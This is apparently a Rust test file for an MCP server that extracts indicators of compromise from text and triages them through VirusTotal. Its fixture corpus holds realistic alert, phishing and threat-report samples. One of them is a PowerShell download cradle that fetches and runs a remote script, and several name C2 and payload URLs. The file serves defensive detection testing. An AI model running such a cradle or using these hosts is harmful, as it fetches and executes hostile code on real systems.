//! Indicators from free text, through the MCP server: `extract_iocs` on a corpus of realistic
//! alert bodies, e-mails and threat-report paragraphs (mixed defanged forms, look-alikes that
//! are not indicators), each with its exact expected indicators; `extract_iocs` makes no
//! upstream request; `triage_iocs { text }` looks up exactly the extracted indicators that are
//! worth a lookup and lists the others as skipped.

use crate::mcp::{call, config, connect, text};
use crate::support::mock_vt;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use wiremock::{Mock, ResponseTemplate, matchers};

/// An expected indicator: type, value, written defanged, flags.
type Expect = (&'static str, &'static str, bool, &'static [&'static str]);

struct Doc {
    name: &'static str,
    text: &'static str,
    expected: &'static [Expect],
    /// Strings in the text that look like indicators and are not (each must appear in the text,
    /// and nothing extracted may be it).
    lookalikes: &'static [&'static str],
}

const EDR_ALERT: Doc = Doc {
    name: "EDR alert",
    text: r#"[ALERT] Suspicious PowerShell download cradle - severity HIGH
Rule: EDR-PS-0042 v2.3.1 | Tenant: acme-corp
Host: WS-FIN-042.corp.acme.local (10.20.4.17)   User: ACME\j.doe
Parent: C:\Windows\System32\cmd.exe -> powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update-check.net/ps/stage1.ps1')"
Network: 10.20.4.17:49832 -> 91.215.85.142:443 (TLS, SNI: api.telemetry-sync.com)
DNS: query api.telemetry-sync.com A -> 91.215.85.142; query wpad.corp.acme.local -> NXDOMAIN
File written: C:\Users\j.doe\AppData\Roaming\Microsoft\update.zip (SHA256 bee9a2ff835f51ea44e42fd80027f3b65aa0052b7d8f1a9aef99a65abaa840f4)
Dropped: %TEMP%\invoice.pdf.exe  SHA1 5ee4d3466c6faca3edbab23a54a5a6cac6f297f7  MD5 2a55579d63e8a73a10faf5debee964ca
Loaded module: System.Net.Http.dll, version 4.2.0.0
Loopback listener on 127.0.0.1:8080; metadata probe to 169.254.169.254
Correlation: d9ee27607dc50f38a6608ac92601973aea441f077e9c9547
Runbook: https://wiki.acme.local/runbooks/ps (internal)
"#,
    expected: &[
        ("ipv4", "10.20.4.17", false, &["private"]),
        (
            "url",
            "http://cdn-update-check.net/ps/stage1.ps1",
            false,
            &[],
        ),
        ("ipv4", "91.215.85.142", false, &[]),
        ("domain", "api.telemetry-sync.com", false, &[]),
        (
            "sha256",
            "bee9a2ff835f51ea44e42fd80027f3b65aa0052b7d8f1a9aef99a65abaa840f4",
            false,
            &[],
        ),
        (
            "sha1",
            "5ee4d3466c6faca3edbab23a54a5a6cac6f297f7",
            false,
            &[],
        ),
        ("md5", "2a55579d63e8a73a10faf5debee964ca", false, &[]),
        ("ipv4", "4.2.0.0", false, &["version_like"]),
        ("ipv4", "127.0.0.1", false, &["loopback"]),
        ("ipv4", "169.254.169.254", false, &["link_local"]),
    ],
    lookalikes: &[
        "v2.3.1",
        "WS-FIN-042.corp.acme.local",
        "wpad.corp.acme.local",
        "cmd.exe",
        "powershell.exe",
        "Net.WebClient",
        "stage1.ps1",
        "update.zip",
        "invoice.pdf.exe",
        "System.Net.Http.dll",
        "d9ee27607dc50f38a6608ac92601973aea441f077e9c9547",
        "https://wiki.acme.local/runbooks/ps",
    ],
};

const PHISHING_MAIL: Doc = Doc {
    name: "phishing e-mail",
    text: r#"From: "DHL Express" <notify[at]dhl-parcel-tracking[.]info>
Reply-To: claims@parcel-support.top
To: j.doe@acme-corp.com
Subject: Your parcel could not be delivered (ref 4471-22)
Received: from mail.parcel-support.top (unknown [194.87.31.77]) by mx1.acme-corp.com
X-Originating-IP: [2a03:b0c0:3:d0::1b2:7001]

Click hxxps://dhl-parcel-tracking[.]info/track?id=88412&lang=en to reschedule, or scan
the QR code. Attachment: DHL_Invoice_88412.zip (MD5 2a90e597a784b1b00db9288bfba8c548),
containing DHL_Invoice_88412.pdf.lnk. Its macro fetches hxxp://45.133.1[.]98/x/loader.bin.
Do not reply to noreply@example.com (template footer). Tracking pixel:
https://track.mailer-cdn.net/o/6a28b4d144c57a2b29462db7395c98ae7508c4e7.gif
Internal relay 192.168.10.25 and gateway fd00:10::1 logged it; lab copy at 2001:db8::42.
"#,
    expected: &[
        ("domain", "dhl-parcel-tracking.info", true, &["email"]),
        ("domain", "parcel-support.top", false, &["email"]),
        ("domain", "acme-corp.com", false, &["email"]),
        ("domain", "mail.parcel-support.top", false, &[]),
        ("ipv4", "194.87.31.77", false, &[]),
        ("domain", "mx1.acme-corp.com", false, &[]),
        ("ipv6", "2a03:b0c0:3:d0::1b2:7001", false, &[]),
        (
            "url",
            "https://dhl-parcel-tracking.info/track?id=88412&lang=en",
            true,
            &[],
        ),
        ("md5", "2a90e597a784b1b00db9288bfba8c548", false, &[]),
        ("url", "http://45.133.1.98/x/loader.bin", true, &[]),
        ("domain", "example.com", false, &["email", "documentation"]),
        (
            "url",
            "https://track.mailer-cdn.net/o/6a28b4d144c57a2b29462db7395c98ae7508c4e7.gif",
            false,
            &[],
        ),
        ("ipv4", "192.168.10.25", false, &["private"]),
        ("ipv6", "fd00:10::1", false, &["private"]),
        ("ipv6", "2001:db8::42", false, &["documentation"]),
    ],
    lookalikes: &[
        "DHL_Invoice_88412.zip",
        "DHL_Invoice_88412.pdf.lnk",
        "6a28b4d144c57a2b29462db7395c98ae7508c4e7",
        "loader.bin",
    ],
};

const THREAT_REPORT: Doc = Doc {
    name: "threat report",
    text: r#"In March the operator moved C2 to update-services[.]xyz and cdn.update-services[.]xyz,
with a fallback at 185.243.115[.]84 and 2a0e:97c0:3e3:4a1::2 (hosted on a VPS range we track).
The loader (SHA-256 c4b59cedda242093a7c19f45a05c38f06b34190b21d5af69984c9a98fef408fd) beacons
to hxxps[://]update-services[.]xyz/api/v2/ping and hxxp://panel(.)darkgate-c2{.}ru:8443/login.php;
a second stage (SHA-1 717ff149545e6c594421fc01ca80963154213d28) pulls a OneNote lure named
Q1_report.one from hxxps://files[.]secure-docs-share[.]com/dl/Q1_report.one.
Victims received mail from ops[at]secure-docs-share[dot]com. The dropper masquerades as
setup.exe and report.docx, and writes config.json and readme.md next to itself; it looks for
Wireshark 3.6.2 and VMware Tools 12.1.5.20735 and exits if either is found. A YARA hit on
sample e433e19f4ab57e46f9b5cc45059e7884 carries the PDB path C:\build\x64\Release\stub.pdb.
Truncated hashes such as 9c7dd32c16649b1e3277af0aa7fd888 or
fb347a1b3d0c9b4b14b23e74dd920155d3af615a50d6bc10040da4872fbaed3 in the appendix are unusable.
Staging also used hxxps://cdn.discordapp[.]com/attachments/1183/1191/payload.zip, a paste at
pastebin[.]com/raw/Xk2bQ9 and the DGA domain kq3vx0zp9d[.]top. A mirror reported at
example[.]pdf was a mistake. Contact the team at intel@our-lab.org. The implant resolves
ip-api.com to geolocate victims; kit v5.1.0.3 adds TLS. ASP.NET and System.IO are used.
Loader SHA-256 again: C4B59CEDDA242093A7C19F45A05C38F06B34190B21D5AF69984C9A98FEF408FD.
"#,
    expected: &[
        ("domain", "update-services.xyz", true, &[]),
        ("domain", "cdn.update-services.xyz", true, &[]),
        ("ipv4", "185.243.115.84", true, &[]),
        ("ipv6", "2a0e:97c0:3e3:4a1::2", false, &[]),
        (
            "sha256",
            "c4b59cedda242093a7c19f45a05c38f06b34190b21d5af69984c9a98fef408fd",
            false,
            &[],
        ),
        ("url", "https://update-services.xyz/api/v2/ping", true, &[]),
        (
            "url",
            "http://panel.darkgate-c2.ru:8443/login.php",
            true,
            &[],
        ),
        (
            "sha1",
            "717ff149545e6c594421fc01ca80963154213d28",
            false,
            &[],
        ),
        (
            "url",
            "https://files.secure-docs-share.com/dl/Q1_report.one",
            true,
            &[],
        ),
        ("domain", "secure-docs-share.com", true, &["email"]),
        ("md5", "e433e19f4ab57e46f9b5cc45059e7884", false, &[]),
        (
            "url",
            "https://cdn.discordapp.com/attachments/1183/1191/payload.zip",
            true,
            &[],
        ),
        ("domain", "pastebin.com", true, &[]),
        ("domain", "kq3vx0zp9d.top", true, &[]),
        ("domain", "our-lab.org", false, &["email"]),
        ("domain", "ip-api.com", false, &[]),
        ("ipv4", "5.1.0.3", false, &["version_like"]),
    ],
    lookalikes: &[
        "Q1_report.one",
        "login.php",
        "setup.exe",
        "report.docx",
        "config.json",
        "readme.md",
        "3.6.2",
        "12.1.5.20735",
        "stub.pdb",
        "9c7dd32c16649b1e3277af0aa7fd888",
        "fb347a1b3d0c9b4b14b23e74dd920155d3af615a50d6bc10040da4872fbaed3",
        "example[.]pdf",
        "ASP.NET",
        "System.IO",
    ],
};

const IOC_SHEET: Doc = Doc {
    name: "IOC sheet",
    text: r#"type,value,comment
ip,"103.251.167[.]20",C2 (first seen 2024-05-02 10:15:30Z)
domain,mail-secure-login[.]co.uk,phishing kit
url,"hXXps://mail-secure-login[.]co.uk/owa/auth.php?u=j.doe%40acme-corp.com",credential harvest
hash,84cccdeea072ef10c9a7759ebe618a111176090f2ac26b8ba8ba3a347fb07798,"loader, packed"
hash,0CEA365A5D205FBB68C5A83FDE23AF6B,
domain,bücher-versand[.]de,IDN look-alike
ipv6,2604:a880:400:d1::72a:b001,VPS
note,"not 0xed5a5b901c7fd81003523c14b4fb2a7c (a key), not 1.2.3, not build 2.0.50727.4927",
"#,
    expected: &[
        ("ipv4", "103.251.167.20", true, &[]),
        ("domain", "mail-secure-login.co.uk", true, &[]),
        (
            "url",
            "https://mail-secure-login.co.uk/owa/auth.php?u=j.doe%40acme-corp.com",
            true,
            &[],
        ),
        (
            "sha256",
            "84cccdeea072ef10c9a7759ebe618a111176090f2ac26b8ba8ba3a347fb07798",
            false,
            &[],
        ),
        ("md5", "0cea365a5d205fbb68c5a83fde23af6b", false, &[]),
        ("domain", "xn--bcher-versand-wob.de", true, &[]),
        ("ipv6", "2604:a880:400:d1::72a:b001", false, &[]),
    ],
    lookalikes: &[
        "10:15:30",
        "0xed5a5b901c7fd81003523c14b4fb2a7c",
        "1.2.3",
        "2.0.50727.4927",
        "auth.php",
    ],
};

const CORPUS: &[Doc] = &[EDR_ALERT, PHISHING_MAIL, THREAT_REPORT, IOC_SHEET];

fn as_tuple(i: &Value) -> (String, String, bool, Vec<String>) {
    (
        i["type"].as_str().unwrap_or_default().to_string(),
        i["value"].as_str().unwrap_or_default().to_string(),
        i["defanged_in_text"].as_bool().unwrap_or_default(),
        i["flags"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|f| f.as_str().map(str::to_string))
            .collect(),
    )
}

#[tokio::test]
async fn extraction_corpus_has_no_misses_and_no_false_positives() {
    let server = mock_vt().await;
    let client = connect(&config(&server.uri(), &["reports"], &[], false, false)).await;
    let (mut expected_total, mut lookalikes_total, mut defanged_total) = (0, 0, 0);
    let (mut misses, mut false_positives, mut wrong_details) = (vec![], vec![], vec![]);
    let mut lookalikes_extracted = vec![];
    for doc in CORPUS {
        let r = call(
            &client,
            "extract_iocs",
            json!({"text": doc.text, "format": "json"}),
        )
        .await;
        assert_eq!(r.is_error, Some(false), "{}: {}", doc.name, text(&r));
        let s = r.structured_content.clone().unwrap();
        assert_eq!(s["requests"], 0);
        let got: Vec<_> = s["indicators"]
            .as_array()
            .unwrap()
            .iter()
            .map(as_tuple)
            .collect();
        let got_keys: BTreeSet<(String, String)> =
            got.iter().map(|g| (g.0.clone(), g.1.clone())).collect();
        let want_keys: BTreeSet<(String, String)> = doc
            .expected
            .iter()
            .map(|e| (e.0.to_string(), e.1.to_string()))
            .collect();
        assert_eq!(
            want_keys.len(),
            doc.expected.len(),
            "{}: duplicate expectation",
            doc.name
        );
        misses.extend(
            want_keys
                .difference(&got_keys)
                .map(|k| format!("{}: {k:?}", doc.name)),
        );
        false_positives.extend(
            got_keys
                .difference(&want_keys)
                .map(|k| format!("{}: {k:?}", doc.name)),
        );
        for e in doc.expected {
            let want = (
                e.0.to_string(),
                e.1.to_string(),
                e.2,
                e.3.iter().map(|f| f.to_string()).collect::<Vec<_>>(),
            );
            if let Some(g) = got.iter().find(|g| g.0 == want.0 && g.1 == want.1)
                && *g != want
            {
                wrong_details.push(format!("{}: got {g:?}, want {want:?}", doc.name));
            }
        }
        // The expected order is the order of first appearance.
        let order: Vec<&str> = got.iter().map(|g| g.1.as_str()).collect();
        let want_order: Vec<&str> = doc.expected.iter().map(|e| e.1).collect();
        if misses.is_empty() && false_positives.is_empty() {
            assert_eq!(order, want_order, "{}: order of first appearance", doc.name);
        }
        for l in doc.lookalikes {
            assert!(
                doc.text.contains(l),
                "{}: look-alike {l:?} not in the text",
                doc.name
            );
            if got.iter().any(|g| {
                g.1.eq_ignore_ascii_case(l) || g.1.eq_ignore_ascii_case(&l.replace("[.]", "."))
            }) {
                lookalikes_extracted.push(format!("{}: {l:?}", doc.name));
            }
        }
        assert_eq!(
            s["counts"]["total"],
            got.len(),
            "{}: counts match the listing",
            doc.name
        );
        expected_total += doc.expected.len();
        lookalikes_total += doc.lookalikes.len();
        defanged_total += doc.expected.iter().filter(|e| e.2).count();
    }
    println!(
        "extraction corpus: {} documents, {expected_total} expected indicators ({defanged_total} written defanged), {lookalikes_total} look-alikes; {} missed, {} false positives, {} with wrong flags or defanged mark",
        CORPUS.len(),
        misses.len(),
        false_positives.len(),
        wrong_details.len()
    );
    assert!(expected_total >= 40 && lookalikes_total >= 10);
    assert!(misses.is_empty(), "missed: {misses:#?}");
    assert!(
        false_positives.is_empty(),
        "false positives: {false_positives:#?}"
    );
    assert!(wrong_details.is_empty(), "{wrong_details:#?}");
    assert!(
        lookalikes_extracted.is_empty(),
        "look-alikes extracted: {lookalikes_extracted:#?}"
    );
    assert!(
        server.received_requests().await.unwrap().is_empty(),
        "extract_iocs made an upstream request"
    );
}

#[tokio::test]
async fn extract_iocs_answers_in_markdown_without_a_request() {
    let server = mock_vt().await;
    let client = connect(&config(&server.uri(), &["reports"], &[], false, false)).await;
    let r = call(&client, "extract_iocs", json!({"text": PHISHING_MAIL.text})).await;
    assert_eq!(r.is_error, Some(false), "{}", text(&r));
    let md = text(&r);
    assert!(md.starts_with("## Indicators in the text"), "{md}");
    assert!(md.contains("No request was made to VirusTotal"), "{md}");
    assert!(
        md.contains("| url | `https://dhl-parcel-tracking.info/track?id=88412&lang=en` | yes |  |"),
        "{md}"
    );
    assert!(
        md.contains("| ipv4 | `192.168.10.25` |  | private |"),
        "{md}"
    );
    let s = r.structured_content.unwrap();
    assert_eq!(s["counts"]["total"], PHISHING_MAIL.expected.len());
    assert_eq!(s["counts"]["skipped_by_triage"], 4);
    // Nothing found is an answer too.
    let r = call(
        &client,
        "extract_iocs",
        json!({"text": "setup.exe, v1.2.3 and invoice.pdf"}),
    )
    .await;
    assert_eq!(r.is_error, Some(false));
    assert!(text(&r).contains("None found"), "{}", text(&r));
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn triage_text_looks_up_exactly_the_extracted_indicators() {
    let server = mock_vt().await;
    let ip = serde_json::from_str::<Value>(
        &std::fs::read_to_string(format!(
            "{}/tests/fixtures/ip_address.json",
            env!("CARGO_MANIFEST_DIR")
        ))
        .unwrap(),
    )
    .unwrap();
    Mock::given(matchers::method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_json(ip))
        .mount(&server)
        .await;
    let client = connect(&config(&server.uri(), &["default"], &[], false, false)).await;
    let r = call(
        &client,
        "triage_iocs",
        json!({"text": PHISHING_MAIL.text, "format": "json"}),
    )
    .await;
    assert_eq!(r.is_error, Some(false), "{}", text(&r));
    let s = r.structured_content.clone().unwrap();
    // The requests: one per unflagged indicator, nothing else.
    let wanted: BTreeSet<String> = PHISHING_MAIL
        .expected
        .iter()
        .filter(|e| e.3.iter().all(|f| *f == "email"))
        .map(|(kind, value, _, _)| match *kind {
            "md5" | "sha1" | "sha256" => format!("/files/{value}"),
            "url" => format!("/urls/{}", vtmcp::client::ids::url_id(value)),
            "domain" => format!("/domains/{value}"),
            _ => format!("/ip_addresses/{value}"),
        })
        .collect();
    let requested: Vec<String> = server
        .received_requests()
        .await
        .unwrap()
        .iter()
        .map(|r| {
            percent_encoding::percent_decode_str(r.url.path())
                .decode_utf8_lossy()
                .into_owned()
        })
        .collect();
    assert_eq!(
        requested.len(),
        wanted.len(),
        "one request each: {requested:#?}"
    );
    assert_eq!(
        requested.iter().cloned().collect::<BTreeSet<_>>(),
        wanted,
        "exactly the extracted indicators"
    );
    assert_eq!(s["requests"], wanted.len());
    let rows = s["rows"].as_array().unwrap();
    assert_eq!(rows.len(), PHISHING_MAIL.expected.len());
    let skipped: Vec<(&str, &str)> = rows
        .iter()
        .filter(|r| r["status"] == "skipped")
        .map(|r| {
            (
                r["indicator"].as_str().unwrap(),
                r["detail"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        skipped,
        [
            (
                "example.com",
                "not looked up: a documentation address or domain"
            ),
            ("192.168.10.25", "not looked up: a private address"),
            ("fd00:10::1", "not looked up: a private address"),
            (
                "2001:db8::42",
                "not looked up: a documentation address or domain"
            ),
        ]
    );
    let plan = s["plan"].as_str().unwrap();
    assert!(
        plan.starts_with("15 indicator(s) found in the text (3 written defanged), 4 skipped")
            && plan.contains("11 lookup(s) = 11 VirusTotal request(s)"),
        "{plan}"
    );
    // Markdown: the skipped ones are rows that say why.
    let r = call(
        &client,
        "triage_iocs",
        json!({"text": "lab box 10.1.2.3 only"}),
    )
    .await;
    let md = text(&r);
    assert!(
        md.contains("## Triage of 1 indicator(s) found in the text"),
        "{md}"
    );
    assert!(
        md.contains("| `10.1.2.3` | ip_address | skipped: not looked up: a private address |"),
        "{md}"
    );
}

#[tokio::test]
async fn triage_takes_exactly_one_of_iocs_and_text() {
    let server = mock_vt().await;
    let client = connect(&config(&server.uri(), &["reports"], &[], false, false)).await;
    for (args, says) in [
        (
            json!({"iocs": ["8.8.8.8"], "text": "8.8.8.8"}),
            "give either `iocs` or `text`, not both",
        ),
        (json!({}), "give `iocs` (a list of indicators) or `text`"),
        (json!({"format": "json"}), "give `iocs`"),
    ] {
        let r = call(&client, "triage_iocs", args.clone()).await;
        assert_eq!(r.is_error, Some(true), "{args}");
        let t = text(&r);
        assert!(
            t.starts_with("triage_iocs: invalid arguments: ")
                && t.contains(says)
                && t.contains("Nothing was sent to VirusTotal"),
            "{args}: {t}"
        );
    }
    // The schema's bounds and the control-character rule apply to `text` (line breaks and
    // tabs are free text; ESC is not).
    let r = call(&client, "triage_iocs", json!({"text": ""})).await;
    assert!(
        text(&r).contains("`text`") && text(&r).contains("must not be empty"),
        "{}",
        text(&r)
    );
    let r = call(
        &client,
        "triage_iocs",
        json!({"text": "a\u{1b}[31m 8.8.8.8"}),
    )
    .await;
    assert!(text(&r).contains("U+001B"), "{}", text(&r));
    let long = "x".repeat(vtmcp::reports::args::MAX_TEXT_CHARS as usize + 1);
    let r = call(&client, "extract_iocs", json!({"text": long})).await;
    assert_eq!(r.is_error, Some(true));
    let r = call(&client, "triage_iocs", json!({"text": long})).await;
    assert!(text(&r).contains("the limit is 500000"), "{}", text(&r));
    assert!(server.received_requests().await.unwrap().is_empty());
}
